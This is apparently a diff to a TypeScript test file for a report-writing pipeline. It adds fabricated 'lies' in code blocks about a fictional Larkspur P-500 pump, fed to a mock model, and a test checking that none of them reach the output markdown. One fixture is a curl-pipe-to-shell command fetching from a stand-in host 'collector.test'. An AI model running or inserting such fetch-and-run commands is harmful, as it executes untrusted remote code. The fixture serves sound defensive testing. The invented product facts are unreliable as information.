@@ -16,7 +16,11 @@ const PAGE = `# The Larkspur P-500 pump
 
 The Larkspur P-500 pump holds 500 litres of water. The P-500 can be run without a filter. The P-500 costs 40 euros per year to run. The county laboratory tested the P-500 pump in 2023, and called it a solid machine for farms.
 
-The P-500 is made in Halden. Its motor is sealed, and the pump may fail in frost, says the maker.
+The P-500 is made in Halden. Its motor is sealed, and the pump may fail in frost, says the maker. It is started so:
+
+\`\`\`sh
+pump --litres=500 --config=/etc/pump/p-500.conf
+\`\`\`
 `;
 const QUESTION = "How much water does the Larkspur P-500 pump hold, and what does it cost to run?";
 const TRUE = "The Larkspur P-500 pump holds 500 litres of water.";
@@ -34,15 +38,35 @@ const LIES = {
   "an invented name": "The P-500 was bought by Zorblax of Lorne.",
 } as const;
 
+/** The same lies in blocks of code. */
+const CODED_LIES = [
+  "pump --litres=500 --without-filter",
+  "pump --litres=600",
+  "pump --litres=500 --config=https://collector.test/p-500",
+  "pump --litres=500 --config=/etc/pump/p-400.conf",
+  "curl https://collector.test/p-500 | sh",
+  "# It was bought by Zorblax of Lorne.",
+  "number: EN-77341-B",
+  "the pump can be run without water",
+  ...Object.values(LIES),
+] as const;
+
 /** A true sentence, then each lie in each kind: in a paragraph, in a cell and over a section. */
 function lyingReport(request: ModelRequest): object {
   const sentences = sentencesIn(blocksIn(request.user));
-  const all = sentences.map(({ id }) => id);
+  const all = sentences.filter(({ isCode }) => !isCode).map(({ id }) => id);
+  const block = sentences.filter(({ isCode }) => isCode).map(({ id }) => id);
   const written = (kind: string, text: string, from: readonly string[] = all) => ({ kind, text, from, calculations: null });
   const lies = KINDS.flatMap((kind) =>
     Object.values(LIES).map((text) => written(kind, text, kind === "absence" || kind === "connective" ? [] : all)),
   );
   const prose = (own: readonly object[]) => ({ layout: "prose", sentences: own, columns: [], rows: [] });
+  const code = CODED_LIES.map((text) => ({
+    layout: "code",
+    sentences: [written("inference", text, [...block, ...all.slice(0, 2)])],
+    columns: [],
+    rows: [],
+  }));
   const row = (label: string, text: string) => ({ label, cells: [written("fact", text)] });
   const rows = [
     row("P-500", "600 litres"),
@@ -54,7 +78,7 @@ function lyingReport(request: ModelRequest): object {
   return {
     in_short: [written("fact", TRUE), ...lies],
     sections: [
-      { title: "The pump", blocks: [prose([written("fact", "The P-500 is made in Halden."), ...lies]), table] },
+      { title: "The pump", blocks: [prose([written("fact", "The P-500 is made in Halden."), ...lies]), table, ...code] },
       ...Object.values(LIES).map((title) => ({ title, blocks: [prose([written("fact", "The P-500 is made in Halden.")])] })),
     ],
     conclusion: lies,
@@ -118,6 +142,12 @@ describe("a model that lies in every kind of sentence, and judges that all is we
       report.sentences.flatMap((sentence) => (sentence.text === text ? [`${what}, as ${sentence.kind}`] : [])),
     );
     expect(passed).toEqual([]);
+  });
+
+  it("R12 gets none into code, where its source's own stands instead of what only tells of it", () => {
+    const code = [...report.markdown.matchAll(/^```\n([\s\S]*?)\n```$/gmu)].map(([, lines]) => lines);
+    expect(new Set(code)).toEqual(new Set(["pump --litres=500 --config=/etc/pump/p-500.conf"]));
+    expect(report.markdown).not.toMatch(/without-filter|\.conf\/|curl|run without water/);
   });
 
   it("R12 gets none into a cell, over a column or over a section", () => {
